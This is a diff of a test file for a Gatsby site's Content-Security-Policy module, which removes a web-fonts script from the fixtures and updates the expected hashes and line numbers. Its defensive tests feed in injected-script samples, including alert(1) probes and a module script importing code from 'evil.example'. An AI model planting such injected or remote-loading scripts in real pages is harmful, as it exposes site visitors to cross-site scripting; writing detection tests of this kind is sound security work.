@@ -9,17 +9,14 @@ import {
   untrustedMarkup,
   withPagePolicy,
 } from "../../../src/lib/page-policy";
-import { WEB_FONTS_SWITCH_ID } from "../../../src/lib/web-fonts";
 
-/** The site's own script, and Gatsby's three, in the forms they take in a built page. */
-const SWITCH = "(function(){document.documentElement.dataset.fonts='on'})()";
+/** Gatsby's three inline scripts, in the forms they take in a built page. */
 const LOADER = '/*<![CDATA[*/window.pagePath="/home/";/*]]>*/';
 const CHUNKS = '\n  window.___chunkMapping="{\\"app\\":[\\"/app-0123.js\\"]}";\n';
 const BUILD_HASH = 'window.___webpackCompilationHash="d149f4cc0fd2fd4dd91c";';
 
 const page = (scripts: string) =>
   `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><meta name="viewport" content="width=device-width"/>
-<script id="${WEB_FONTS_SWITCH_ID}">${SWITCH}</script>
 <script src="/app-0123456789abcdef0123.js"></script>
 <script type="application/ld+json">{"@context":"https://schema.org"}</script>
 </head><body><div id="___gatsby"></div>${scripts}</body></html>`;
@@ -36,17 +33,17 @@ const metaCount = (text: string) => text.split('http-equiv="Content-Security-Pol
 
 describe("inlineScripts and scriptHashes", () => {
   it("returns executable inline scripts only: not external ones, not JSON data blocks", () => {
-    expect(inlineScripts(html)).toEqual([SWITCH, LOADER, CHUNKS, BUILD_HASH]);
+    expect(inlineScripts(html)).toEqual([LOADER, CHUNKS, BUILD_HASH]);
   });
 
   it("hashes each trusted inline script once, as CSP computes it over the exact text", () => {
     const twice = page(gatsbyScripts + `<script>${BUILD_HASH}</script>`);
-    expect(scriptHashes(twice)).toEqual([SWITCH, LOADER, CHUNKS, BUILD_HASH].map(hash).sort());
+    expect(scriptHashes(twice)).toEqual([LOADER, CHUNKS, BUILD_HASH].map(hash).sort());
   });
 
   it("hashes no script the site's code and Gatsby did not write", () => {
     const injected = page(
-      `${gatsbyScripts}<script>alert(1)</script><script id="${WEB_FONTS_SWITCH_ID}">alert(2)</script>`,
+      `${gatsbyScripts}<script>alert(1)</script><script id="gatsby-chunk-mapping">alert(2)</script>`,
     );
     expect(scriptHashes(injected)).toEqual(scriptHashes(html));
   });
@@ -60,7 +57,7 @@ describe("untrustedMarkup", () => {
   it.each([
     ["a script in the body", "<p>Hi</p><script>alert(1)</script>", /inline <script> in its <body>: "alert\(1\)"/],
     ["a module script", '<script type="module">import("https://evil.example/x.js")</script>', /inline <script>/],
-    ["the site's id outside the <head>", `<script id="${WEB_FONTS_SWITCH_ID}">alert(1)</script>`, /in its <body>/],
+    ["a script with an id of its own", '<script id="web-fonts-switch">alert(1)</script>', /in its <body>/],
     [
       "Gatsby's id with other code",
       '<script id="gatsby-script-loader">window.pagePath="/";alert(1)</script>',
@@ -139,7 +136,7 @@ describe("untrustedMarkup", () => {
   ])("names %s with its line", (_name, markup, expected) => {
     const found = untrustedMarkup(page(gatsbyScripts + markup));
     expect(found).toHaveLength(1);
-    expect(found[0].line).toBe(7);
+    expect(found[0].line).toBe(6);
     expect(`${found[0].what}: ${JSON.stringify(found[0].text)}`).toMatch(expected);
   });
 
@@ -209,9 +206,7 @@ describe("withPagePolicy", () => {
   });
 
   it("lists exactly the page's own inline scripts", () => {
-    expect(pageMetaPolicy(built)).toBe(
-      `script-src 'self' ${[SWITCH, LOADER, CHUNKS, BUILD_HASH].map(hash).sort().join(" ")}`,
-    );
+    expect(pageMetaPolicy(built)).toBe(`script-src 'self' ${[LOADER, CHUNKS, BUILD_HASH].map(hash).sort().join(" ")}`);
   });
 
   it("gives the same page when run again: the policy is replaced, not added", () => {
